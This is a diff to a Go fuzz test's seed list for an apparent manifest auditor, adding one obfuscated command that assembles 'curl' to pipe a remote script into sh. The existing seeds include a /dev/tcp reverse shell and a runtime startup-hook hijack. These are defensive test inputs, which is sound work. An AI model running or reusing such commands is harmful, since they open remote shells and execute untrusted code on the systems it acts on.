@@ -84,6 +84,7 @@ var fuzzSeeds = [][]string{
 	{"pnpm", "exec", "-c", "yarn node -e 1 && bun exec 'dotnet script https://x/s.csx'"},
 	{"bash", "-c", "exec 3<>/dev/tcp/$H/80; sh <&3 >& /dev/udp/h/1"},
 	{"env", "DOTNET_STARTUP_HOOKS=h.dll", "LUA_INIT_5_4=@x.lua", "coreclr_profiler_path=p.so", "dotnet", "srv.dll"},
+	{"bash", "-c", "X=cu; X+=rl; C=\"$X -s\"; ${D:-$C} https://x | ${S-sh}; $'\\x63\\165rl\\cA' u"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
